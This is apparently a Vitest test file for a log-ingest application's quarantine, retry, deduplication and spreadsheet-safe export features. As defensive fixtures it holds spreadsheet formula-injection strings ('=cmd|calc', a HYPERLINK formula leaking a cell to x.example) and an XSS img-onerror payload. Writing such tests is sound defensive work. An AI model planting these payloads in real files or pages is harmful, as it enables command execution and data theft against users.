import { writeFileSync } from 'node:fs';
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { importFile } from '../../../../../electron/core/ingest/import-file';
import { exportQuarantine, listQuarantine, retryQuarantine, spreadsheetSafe } from '../../../../../electron/core/ingest/quarantine';
import { saveSource } from '../../../../../electron/core/sources/source-store';
import { createPipelineVault, eventCount, expectReconciled, NOW, ocsfLines, type PipelineVault } from './pipeline-fixture';

let vault: PipelineVault;
beforeEach(() => {
  vault = createPipelineVault();
});
afterEach(() => vault.cleanup());

const CSV = [
  'when,who,ip,result',
  '2026-10-01T08:00:00Z,alice,10.0.0.1,success',
  '2026-10-01T08:01:00Z,=cmd|calc,10.0.0.2,failure',
  '2026-10-01T08:02:00Z,bob,10.0.0.3,success',
  '2026-10-01T08:02:00Z,bob,10.0.0.3,success',
].join('\n');

async function exportToString(filter: { batchId?: number }): Promise<string[]> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await exportQuarantine(vault.db, filter, out);
  out.end();
  return Buffer.concat(chunks).toString('utf8').split('\n').filter((l) => l.length > 0);
}

describe('quarantine on re-import', () => {
  it('importing the same file again counts its quarantined lines as duplicates and adds no quarantine rows', async () => {
    const file = vault.input('mixed.jsonl');
    // A bad line repeated: both copies are quarantined the first time (a file that repeats a line keeps
    // every copy), and neither a second time.
    writeFileSync(file, ocsfLines(3) + 'not json\n' + '{"broken": \n' + 'not json\n');
    const first = await importFile(vault.db, { path: file }, { operator: 'olga', now: NOW });
    expectReconciled(vault.db, first);
    expect(first).toMatchObject({ read: 6, imported: 3, quarantined: 3, duplicates: 0 });
    const rows = () => listQuarantine(vault.db, { limit: 100 }).total;
    expect(rows()).toBe(3);
    const again = await importFile(vault.db, { path: file }, { operator: 'olga', now: NOW });
    expectReconciled(vault.db, again);
    expect(again).toMatchObject({ read: 6, imported: 0, quarantined: 0, duplicates: 6 });
    // Three of those duplicates are not events but records still in quarantine: the summary says so.
    expect(again.alreadyQuarantined).toBe(3);
    expect(first.alreadyQuarantined).toBeUndefined();
    expect(rows()).toBe(3);
    // One more copy of the bad line in a longer file is new: it is quarantined.
    writeFileSync(file, ocsfLines(3) + 'not json\n' + '{"broken": \n' + 'not json\n' + 'not json\n');
    const longer = await importFile(vault.db, { path: file }, { operator: 'olga', now: NOW });
    expect(longer).toMatchObject({ read: 7, imported: 0, quarantined: 1, duplicates: 6, alreadyQuarantined: 3 });
    expect(rows()).toBe(4);
  });
});

describe('retry after a re-import', () => {
  it('gives a repeated line the occurrence the import gave it, so nothing is lost and re-import stays idempotent', async () => {
    // b.csv repeats a line a.csv already put in quarantine: b's first copy is a duplicate of a's, so b's batch
    // holds only the second copy. Counting identical rows of b's batch gave that copy occurrence 0, the
    // fingerprint of a's copy: the retry dropped it as a duplicate, and re-importing b.csv added it again.
    const header = 'when,who,ip,result';
    const r = '2026-10-01T08:00:00Z,alice,10.0.0.1,success';
    const s = '2026-10-01T08:05:00Z,bob,10.0.0.2,failure';
    const a = vault.input('a.csv');
    const b = vault.input('b.csv');
    writeFileSync(a, `${header}\n${r}\n`);
    writeFileSync(b, `${header}\n${r}\n${s}\n${r}\n`);
    saveSource(vault.db, { name: 'hr', csvMapping: { time: 'who', 'actor.user.name': 'who' } });
    expect(await importFile(vault.db, { path: a }, { operator: 'olga', source: 'hr', now: NOW })).toMatchObject({ read: 1, quarantined: 1 });
    expect(await importFile(vault.db, { path: b }, { operator: 'olga', source: 'hr', now: NOW })).toMatchObject({ read: 3, duplicates: 1, quarantined: 2 });

    saveSource(vault.db, { name: 'hr', csvMapping: { time: 'when', 'actor.user.name': 'who', 'src_endpoint.ip': 'ip', status_id: 'result' } });
    expect(await retryQuarantine(vault.db, {}, 'olga', NOW)).toEqual({ retried: 3, imported: 3, duplicates: 0, stillQuarantined: 0 });
    const again = await importFile(vault.db, { path: b }, { operator: 'olga', source: 'hr', now: NOW });
    expectReconciled(vault.db, again);
    expect(again).toMatchObject({ read: 3, imported: 0, duplicates: 3, quarantined: 0 });
  });
});

describe('quarantine after a wrong CSV mapping', () => {
  it('lists, exports, and after the mapping is fixed, retries into the log with dedup intact', async () => {
    const file = vault.input('people.csv');
    writeFileSync(file, CSV);
    // The operator first maps the time field to the wrong column: every row fails its time.
    saveSource(vault.db, { name: 'hr', csvMapping: { time: 'who', 'actor.user.name': 'who' } });
    const first = await importFile(vault.db, { path: file }, { operator: 'olga', source: 'hr', now: NOW });
    expectReconciled(vault.db, first);
    expect(first).toMatchObject({ format: 'csv', read: 4, imported: 0, quarantined: 4 });

    const page1 = listQuarantine(vault.db, { batchId: first.batchId!, limit: 3 });
    expect(page1.total).toBe(4);
    expect(page1.rows.map((r) => r.line)).toEqual([2, 3, 4]);
    expect(page1.rows[1]!.rawText).toBe('2026-10-01T08:01:00Z,=cmd|calc,10.0.0.2,failure');
    expect(page1.rows.every((r) => r.status === 'open' && r.reason.length > 0 && r.file === 'people.csv')).toBe(true);
    const page2 = listQuarantine(vault.db, { batchId: first.batchId!, afterId: page1.rows[2]!.id, limit: 3 });
    expect(page2.rows.map((r) => r.line)).toEqual([5]);

    const exported = (await exportToString({ batchId: first.batchId! })).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(exported).toHaveLength(4);
    expect(Buffer.from(exported[1]!.rawBase64 as string, 'base64').toString('utf8')).toBe('2026-10-01T08:01:00Z,=cmd|calc,10.0.0.2,failure');

    // Fix the mapping, then retry.
    saveSource(vault.db, { name: 'hr', csvMapping: { time: 'when', 'actor.user.name': 'who', 'src_endpoint.ip': 'ip', status_id: 'result' } });
    const retry = await retryQuarantine(vault.db, { batchId: first.batchId! }, 'olga', NOW);
    expect(retry).toEqual({ retried: 4, imported: 4, duplicates: 0, stillQuarantined: 0 });
    // The retry is the operator's act: recorded in the vault's own chain.
    const audit = vault.db
      .prepare("SELECT e.event FROM events e JOIN sources s ON s.id = e.source_id WHERE s.name = 'attest' AND e.event LIKE '%ingest.retryQuarantine%'")
      .pluck()
      .all() as string[];
    expect(audit.map((e) => JSON.parse(e) as { actor: { user: { name: string } }; message: string })).toEqual([
      expect.objectContaining({ actor: { user: { name: 'olga' } }, message: `Retried 4 quarantined record(s) of batch ${first.batchId}: imported 4, duplicates 0, still quarantined 0.` }),
    ]);
    const batch = vault.db.prepare('SELECT read, imported, duplicates, quarantined FROM batches WHERE id = ?').get(first.batchId) as Record<string, number>;
    expect(batch).toEqual({ read: 4, imported: 4, duplicates: 0, quarantined: 0 });
    expect(listQuarantine(vault.db, { batchId: first.batchId!, limit: 10 }).rows.every((r) => r.status === 'resolved')).toBe(true);
    // The formula cell is stored verbatim in the event.
    const stored = vault.db.prepare("SELECT event FROM events WHERE event LIKE '%calc%'").get() as { event: string };
    expect((JSON.parse(stored.event) as { actor: { user: { name: string } } }).actor.user.name).toBe('=cmd|calc');

    // Retrying again does nothing; re-importing with the fixed mapping adds nothing (fingerprints match).
    expect(await retryQuarantine(vault.db, {}, 'olga', NOW)).toEqual({ retried: 0, imported: 0, duplicates: 0, stillQuarantined: 0 });
    const again = await importFile(vault.db, { path: file }, { operator: 'olga', source: 'hr', now: NOW });
    expectReconciled(vault.db, again);
    expect(again).toMatchObject({ read: 4, imported: 0, duplicates: 4, quarantined: 0 });
    expect(eventCount(vault.db)).toBe(4);
  });

  it('rows that still fail stay open with the new reason and the counts still reconcile', async () => {
    const file = vault.input('mixed.jsonl');
    writeFileSync(file, ocsfLines(3) + 'not json at all\n' + '{"class_uid": "x"}\n');
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
    expectReconciled(vault.db, s);
    expect(s).toMatchObject({ read: 5, imported: 3, quarantined: 2 });
    const r = await retryQuarantine(vault.db, {}, 'o', NOW);
    expect(r).toEqual({ retried: 2, imported: 0, duplicates: 0, stillQuarantined: 2 });
    const batch = vault.db.prepare('SELECT read, imported, duplicates, quarantined FROM batches WHERE id = ?').get(s.batchId) as {
      read: number;
      imported: number;
      duplicates: number;
      quarantined: number;
    };
    expect(batch.read).toBe(batch.imported + batch.duplicates + batch.quarantined);
  });
});

describe('records cut from one line', () => {
  it('keep their place in the Records array in the list, the export and after a retry that still fails', async () => {
    // probe8: a one-line CloudTrail file's refused records all said "line 1".
    const ok = (n: number) => ({ eventVersion: '1.08', eventTime: `2026-10-01T08:0${n}:00Z`, eventSource: 'signin.amazonaws.com', eventName: 'ConsoleLogin', awsRegion: 'us-east-1', sourceIPAddress: '198.51.100.7', userIdentity: { type: 'IAMUser', userName: `u${n}` }, eventID: `id-${n}` });
    const bad = (n: number) => ({ eventVersion: '1.08', eventSource: 'signin.amazonaws.com', eventName: 'ConsoleLogin', eventID: `bad-${n}` });
    const file = vault.input('one-line.json');
    writeFileSync(file, JSON.stringify({ Records: [ok(1), bad(2), ok(3), bad(4)] }));
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW });
    expectReconciled(vault.db, s);
    expect(s).toMatchObject({ format: 'cloudtrail', read: 4, imported: 2, quarantined: 2 });
    const batchId = s.batchId!;
    const places = () => listQuarantine(vault.db, { batchId, limit: 10 }).rows.map((r) => [r.line, r.element]);
    expect(places()).toEqual([[1, 2], [1, 4]]);
    expect((await exportToString({ batchId })).map((l) => (JSON.parse(l) as { element: number | null }).element)).toEqual([2, 4]);
    expect(await retryQuarantine(vault.db, { batchId }, 'o', NOW)).toMatchObject({ stillQuarantined: 2 });
    expect(places()).toEqual([[1, 2], [1, 4]]);
    // A record that is a line of its own has no such place.
    const lines = vault.input('lines.jsonl');
    writeFileSync(lines, 'not json\n');
    const l = await importFile(vault.db, { path: lines }, { operator: 'o', now: NOW, format: 'ocsf' });
    expect(listQuarantine(vault.db, { batchId: l.batchId!, limit: 10 }).rows.map((r) => [r.line, r.element])).toEqual([[1, null]]);
  });
});

describe('export is safe to open in a spreadsheet', () => {
  it('prefixes fields that start like a formula and keeps exact bytes in base64', async () => {
    const file = vault.input('evil.jsonl');
    const lines = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '  =1', '<img src=x onerror=alert(1)>'];
    writeFileSync(file, ocsfLines(1) + lines.join('\n') + '\n');
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
    expectReconciled(vault.db, s);
    expect(s).toMatchObject({ imported: 1, quarantined: lines.length });
    const rows = (await exportToString({ batchId: s.batchId! })).map((l) => JSON.parse(l) as Record<string, string>);
    expect(rows.map((r) => Buffer.from(r.rawBase64!, 'base64').toString('utf8'))).toEqual(lines);
    for (const row of rows) expect(row.rawText).not.toMatch(/^[\s]*[=+\-@]/);
    expect(rows[6]!.rawText).toBe('<img src=x onerror=alert(1)>');
  });

  it('spreadsheetSafe neutralises every formula lead and leaves the rest', () => {
    for (const t of ['=1', '+1', '-1', '@x', '\t1', '\r1', ' =1', '\u00a0+1', '\uff1d1']) expect(spreadsheetSafe(t)).toBe(`'${t}`);
    for (const t of ['abc', '1-2', 'a=b', '<b>x</b>', '']) expect(spreadsheetSafe(t)).toBe(t);
  });

  it('exported rows never start a text field with a formula character', async () => {
    const file = vault.input('evil2.jsonl');
    writeFileSync(file, '=HYPERLINK("http://x")\n@cmd\n+x\n');
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
    expectReconciled(vault.db, s);
    const rows = (await exportToString({})).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows).toHaveLength(3);
    for (const row of rows) {
      for (const v of Object.values(row)) if (typeof v === 'string') expect(v).not.toMatch(/^[\s]*[=+\-@]/);
    }
    expect(Buffer.from(rows[0]!.rawBase64 as string, 'base64').toString('utf8')).toBe('=HYPERLINK("http://x")');
    // listQuarantine (the UI) returns the text verbatim: it renders it as text.
    expect(listQuarantine(vault.db, { limit: 10 }).rows[0]!.rawText).toBe('=HYPERLINK("http://x")');
  });
});

describe('records without a time of their own', () => {
  const CEF = ['CEF:0|Elastic|Vaporware|1.0|18|Authentication|low|src=10.0.0.1 suser=bob', 'CEF:0|Elastic|Vaporware|1.0|18|Authentication|low|rt=1790812800000 src=10.0.0.2 suser=eve'].join('\n');
  const OCSF = JSON.stringify({ class_uid: 3002, activity_id: 1, status_id: 2, actor: { user: { name: 'carol' } } });
  const times = (): Record<string, number> =>
    Object.fromEntries(
      (vault.db.prepare("SELECT e.event FROM events e JOIN sources s ON s.id = e.source_id WHERE s.name != 'attest'").pluck().all() as string[]).map((j) => {
        const e = JSON.parse(j) as { time: number; actor?: { user?: { name?: string } } };
        return [e.actor?.user?.name ?? '?', e.time];
      }),
    );

  it('are quarantined, with the way out in the reason, unless the import is given a time for them', async () => {
    const file = `${vault.dir}/bare.cef`;
    writeFileSync(file, CEF);
    const s = await importFile(vault.db, { path: file }, { operator: 'tester', now: NOW });
    expectReconciled(vault.db, s);
    expect(s).toMatchObject({ imported: 1, quarantined: 1 });
    expect(listQuarantine(vault.db, { batchId: s.batchId!, limit: 10 }).rows[0]!.reason).toBe(
      'the CEF record has no time (no rt, end or start, and no syslog timestamp); a retry can give it the time its file was imported',
    );
    const given = Date.UTC(2026, 9, 1, 12);
    const ocsfFile = `${vault.dir}/untimed.jsonl`;
    writeFileSync(ocsfFile, OCSF);
    const o = await importFile(vault.db, { path: ocsfFile }, { operator: 'tester', now: NOW, timeIfMissing: given });
    expect(o).toMatchObject({ imported: 1, quarantined: 0 });
    expect(o.notes).toContain('the record has no time of its own: the time given for it (2026-10-01T12:00:00.000Z) was used');
    expect(times().carol).toBe(given);
    // The event itself says its time was assigned, not read from the record.
    const carol = JSON.parse(vault.db.prepare("SELECT e.event FROM events e JOIN sources s ON s.id = e.source_id WHERE s.name = 'ocsf'").pluck().get() as string) as { unmapped: Record<string, unknown> };
    expect(carol.unmapped.attest_time_assigned).toBe('given');
    const options = JSON.parse(vault.db.prepare('SELECT options FROM batches WHERE id = ?').pluck().get(o.batchId) as string) as Record<string, unknown>;
    expect(options).toMatchObject({ timeIfMissing: given, timeIfMissingFrom: 'given' });
  });

  it('a record given a time is still a duplicate when it comes again, by any route, with another time', async () => {
    const first = `${vault.dir}/first.cef`;
    writeFileSync(first, CEF);
    const grown = `${vault.dir}/grown.cef`;
    writeFileSync(grown, `${CEF}\nCEF:0|Elastic|Vaporware|1.0|18|Authentication|low|src=10.0.0.9 suser=zoe`);
    await importFile(vault.db, { path: first }, { operator: 'tester', now: NOW, timeIfMissing: 'import' });
    const again = await importFile(vault.db, { path: grown }, { operator: 'tester', now: NOW + 3_600_000, timeIfMissing: 'import' });
    expectReconciled(vault.db, again);
    expect(again).toMatchObject({ read: 3, imported: 1, duplicates: 2 });
    // Quarantined by an import without the option, then retried with it: the one already in the log is a duplicate.
    writeFileSync(`${vault.dir}/grown-copy.cef`, `${CEF}\nCEF:0|Elastic|Vaporware|1.0|18|Authentication|low|src=10.0.0.9 suser=zoe\n`);
    const quarantined = await importFile(vault.db, { path: `${vault.dir}/grown-copy.cef` }, { operator: 'tester', now: NOW + 7_200_000 });
    expect(quarantined).toMatchObject({ imported: 0, quarantined: 2, duplicates: 1 });
    const retried = await retryQuarantine(vault.db, { batchId: quarantined.batchId!, timeIfMissing: 'import' }, 'tester', NOW + 8_000_000);
    expect(retried).toMatchObject({ retried: 2, imported: 0, duplicates: 2, stillQuarantined: 0 });
    expect(Object.keys(times()).sort()).toEqual(['bob', 'eve', 'zoe']);
    expect(vault.db.prepare("SELECT count(*) FROM events e JOIN sources s ON s.id = e.source_id WHERE s.name = 'cef'").pluck().get()).toBe(3);
  });

  it('a retry asked to time them at their import gives them the time their batch began, and says so', async () => {
    const file = `${vault.dir}/bare.cef`;
    writeFileSync(file, CEF);
    const s = await importFile(vault.db, { path: file }, { operator: 'tester', now: NOW });
    const plain = await retryQuarantine(vault.db, { batchId: s.batchId! }, 'tester', NOW + 60_000);
    expect(plain).toMatchObject({ retried: 1, imported: 0, stillQuarantined: 1 });
    const timed = await retryQuarantine(vault.db, { batchId: s.batchId!, timeIfMissing: 'import' }, 'tester', NOW + 120_000);
    expect(timed).toMatchObject({ retried: 1, imported: 1, stillQuarantined: 0 });
    expect(times().bob).toBe(NOW);
    expect(times().eve).toBe(1790812800000);
    // The operator's decision to give records a time is in the chain.
    const audit = vault.db.prepare("SELECT e.event FROM events e JOIN sources s ON s.id = e.source_id WHERE s.name = 'attest' ORDER BY e.seq DESC LIMIT 1").pluck().get() as string;
    const notes = (JSON.parse(vault.db.prepare('SELECT options FROM batches WHERE id = ?').pluck().get(s.batchId) as string) as { notes: string[] }).notes;
    expect(notes.at(-2)).toMatch(/^retried .* by tester: 1 record\(s\), 0 imported, 0 duplicate\(s\), 1 still quarantined$/);
    expect(notes.at(-1)).toMatch(/^retried .* by tester: 1 record\(s\), 1 imported, 0 duplicate\(s\), 0 still quarantined; records with no time of their own were given the time of the import$/);
    expect((JSON.parse(audit) as { message: string }).message).toMatch(/Retried 1 quarantined record\(s\) of batch \d+: imported 1, .* Records with no time of their own were given the time their file was imported\./);
  });
});
